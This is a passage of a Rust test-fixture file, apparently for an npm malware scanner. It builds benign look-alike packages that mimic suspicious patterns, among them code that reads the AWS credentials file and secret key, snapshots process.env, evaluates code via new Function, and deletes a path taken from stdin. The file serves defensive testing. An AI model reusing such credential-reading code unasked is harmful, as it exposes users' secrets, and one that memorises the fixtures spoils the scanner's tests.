            "import { execFileSync } from 'node:child_process';\nimport https from 'node:https';\nimport fs from 'node:fs';\nconst base = 'https://storage.example.invalid/chrome-for-testing-public';\nconst url = `${base}/131.0.6778.204/linux64/chrome-linux64.zip`;\nhttps.get(url, (res) => res.pipe(fs.createWriteStream('chrome.zip')).on('finish', () => execFileSync('unzip', ['-q', 'chrome.zip'])));\n",
        )
        .build()
}

/// A huge minified vendor bundle (typescript, webpack, terser): `new Function`,
/// computed requires, long lines.
pub fn minified_bundle() -> Package {
    let mut bundle = String::from("/*! bundle (c) example */\n");
    let mut line = String::new();
    for i in 0..3000 {
        let _ = write!(line, "var a{i}=function(e,t){{return e[t]||n(\"m{i}\")}};");
    }
    line.push_str("var g=new Function(\"return this\")();var q=require(e.resolve(t));");
    line.push_str("var w=typeof eval==\"function\"?eval(\"require\"):null;");
    bundle.push_str(&line);
    bundle.push('\n');
    PackageBuilder::new("typescript", "5.7.2")
        .field("main", json!("lib/typescript.js"))
        .file("lib/typescript.js", bundle)
        .build()
}

/// ethers: wallet code with address regexes and a read of `window.ethereum`.
pub fn wallet_library() -> Package {
    PackageBuilder::new("ethers", "6.13.0")
        .field("main", json!("lib/index.js"))
        .file(
            "lib/index.js",
            "const ADDRESS = /^0x[a-fA-F0-9]{40}$/;\nfunction isAddress(value) { return ADDRESS.test(value); }\nfunction provider() { return typeof window !== 'undefined' && window.ethereum ? window.ethereum : null; }\nasync function send(url, body) { return fetch(url, { method: 'POST', body: JSON.stringify(body) }); }\nmodule.exports = { isAddress, provider, send };\n",
        )
        .build()
}

/// aws-sdk: reads the shared credentials file and the key environment variables.
pub fn aws_sdk_like() -> Package {
    PackageBuilder::new("@aws-sdk/credential-provider-ini", "3.700.0")
        .field("main", json!("dist/index.js"))
        .file(
            "dist/index.js",
            "const { homedir } = require('os');\nconst { join } = require('path');\nconst fs = require('fs');\nconst file = process.env.AWS_SHARED_CREDENTIALS_FILE || join(homedir(), '.aws/credentials');\nconst key = process.env.AWS_SECRET_ACCESS_KEY;\nexports.load = () => ({ file: fs.readFileSync(file, 'utf8'), key });\n",
        )
        .build()
}

/// A tool that saves what its user asks for to the desktop, when its function is
/// called, and checks for updates against a source host with the platform only.
pub fn desktop_saver() -> Package {
    PackageBuilder::new("screen-saver-tool", "3.2.0")
        .field("main", json!("index.js"))
        .field("repository", json!("git+https://forge.example.invalid/acme/screen-saver-tool.git"))
        .file(
            "index.js",
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nexports.save = function (name, data) {\n  fs.writeFileSync(path.join(os.homedir(), 'Desktop', name), data);\n};\nexports.latest = function () {\n  return fetch('https://api.github.com/repos/acme/screen-saver-tool/releases/latest?platform=' + os.platform());\n};\n",
        )
        .build()
}

/// Every legitimate look-alike with what it stands for.
pub fn all_lookalikes() -> Vec<(&'static str, Package)> {
    vec![
        ("esbuild", esbuild_like()),
        ("node-gyp addon", native_addon()),
        ("core-js", core_js_like()),
        ("puppeteer", puppeteer_like()),
        ("minified bundle", minified_bundle()),
        ("wallet library", wallet_library()),
        ("aws-sdk", aws_sdk_like()),
        ("telemetry client", telemetry_client()),
        ("platform binary package", platform_binary()),
        ("update check", update_check()),
        ("desktop saver", desktop_saver()),
        ("own stringify", own_stringify_cli()),
        ("config loader cache", config_cache_cleaner()),
        ("dev server", dev_server_update_check()),
        ("dev server options", dev_server_options()),
        ("one-letter methods", one_letter_methods()),
    ]
}

/// A bundle whose tracer has a one-letter method (`$`) that one place calls with
/// the environment and another with a download address: two unrelated calls.
pub fn one_letter_methods() -> Package {
    PackageBuilder::new("span-tracer", "5.1.2")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            r#"const Tracer = require("./tracer");
const tracer = new Tracer();
exports.snapshot = () => tracer.$({ env: process.env });
exports.load = (name) => fetch(tracer.$("https://cdn.example.invalid/" + name));
"#,
        )
        .file(
            "tracer.js",
            "class Tracer {\n  $(value) {\n    return value;\n  }\n}\nmodule.exports = Tracer;\n",
        )
        .build()
}

/// A dev server that keeps a fetched update check and its port on one options
/// object, then opens a browser on the port: the members are not one value.
pub fn dev_server_options() -> Package {
    PackageBuilder::new("dev-server-options", "10.6.7")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            r#"const { execSync } = require("child_process");
exports.start = async function start(options) {
  const response = await fetch("https://versions.example.invalid/versions.json");
  options.versionCheck = await response.json();
  options.port = 6006;
  execSync("open http://localhost:" + options.port + "/");
  return options.versionCheck.latest;
};
"#,
        )
        .build()
}

/// A config loader (c12-like) that clears its clone cache under the home
/// directory before downloading a template again; an emscripten-style file
/// system that allocates `new Buffer(256)` and removes paths it reads.
pub fn config_cache_cleaner() -> Package {
    PackageBuilder::new("config-loader", "3.3.3")
        .field("main", json!("index.mjs"))
        .file(
            "index.mjs",
            r#"import { homedir } from "node:os";
import { rm } from "node:fs/promises";
import { existsSync, readSync, rmSync } from "node:fs";
import { resolve } from "node:path";
export async function clone(name) {
  const cloneDir = resolve(homedir(), ".cache/config-loader", name);
  if (existsSync(cloneDir)) await rm(cloneDir, { recursive: true });
  return cloneDir;
}
export function unlinkFromStdin() {
  const buf = new Buffer(256);
  const bytes = readSync(process.stdin.fd, buf, 0, 256);
  rmSync(buf.toString("utf8", 0, bytes).trim());
}
"#,
        )
        .build()
}

/// A dev server (storybook-like) that checks for updates while it finds a port,
/// destructuring both results of one `Promise.all`, and opens a browser on that
/// port with a command line.
pub fn dev_server_update_check() -> Package {
    PackageBuilder::new("dev-server", "10.6.7")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            r#"const { execSync } = require("child_process");
const getPort = require("./port");
async function updateCheck(version) {
  const response = await fetch(`https://versions.example.invalid/versions.json?current=${version}`);
  return response.json();
}
exports.start = async function start(version) {
  const [port, versionCheck] = await Promise.all([getPort(6006), updateCheck(version)]);
  execSync(`open http://localhost:${port}/`);
  return versionCheck.latest;
};
"#,
        )
        .file("port.js", "module.exports = async (port) => port;\n")
        .build()
}

/// A process manager (pm2-like) with a JSON helper of its own named `stringify`
/// that a login flow feeds a fetched response; elsewhere `JSON.stringify` quotes a
/// path for a command line. The engine's `JSON.stringify` is not the helper.
pub fn own_stringify_cli() -> Package {
    PackageBuilder::new("proc-manager", "7.0.4")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            "const json = require('./json');\nconst version = require('./version');\nexports.login = function (url) {\n  return fetch(url).then((response) => json.stringify(response));\n};\nexports.version = version;\n",
        )
        .file(
            "json.js",
            "module.exports = {\n  stringify: function (value) {\n    return '' + value;\n  },\n};\n",
        )
        .file(
            "version.js",
            "const { execSync } = require('child_process');\nmodule.exports = () => execSync(JSON.stringify(process.execPath) + ' --version', { encoding: 'utf8' });\n",
        )
        .build()
}

/// A telemetry client (Sentry-like): sends the hostname to a DSN the user
/// configures, when its function is called.
pub fn telemetry_client() -> Package {
    PackageBuilder::new("error-reporter", "8.1.0")
        .field("main", json!("index.js"))
        .field("repository", json!("git+https://forge.example.invalid/acme/error-reporter.git"))
        .file(
            "index.js",
            "const os = require('os');\nconst https = require('https');\nexports.init = function (options) {\n  return function capture(error) {\n    const event = { server_name: os.hostname(), message: String(error) };\n    const request = https.request(options.dsn, { method: 'POST' });\n    request.end(JSON.stringify(event));\n  };\n};\n",
        )
        .build()
}

/// A platform package of prebuilt binaries (`@esbuild/linux-x64`, `@img/sharp-*`):
/// an ELF executable, `os`/`cpu` fields, no scripts.
pub fn platform_binary() -> Package {
    let mut elf = b"\x7fELF".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 508));
    PackageBuilder::new("@tool/linux-x64", "0.25.0")
        .field("os", json!(["linux"]))
        .field("cpu", json!(["x64"]))
        .file("bin/tool", elf)
        .build()
}

/// An update check at import: asks the configured registry for the newest version.
pub fn update_check() -> Package {
    PackageBuilder::new("cli-updater", "5.0.0")
        .field("main", json!("index.js"))
        .field("repository", json!("git+https://forge.example.invalid/acme/cli-updater.git"))
        .file(
            "index.js",
            "const https = require('https');\nconst pkg = require('./package.json');\nhttps.get('https://registry.example.invalid/' + pkg.name, (res) => {\n  let body = '';\n  res.on('data', (chunk) => (body += chunk));\n  res.on('end', () => console.log(JSON.parse(body)['dist-tags'].latest));\n});\n",
        )
        .build()
}
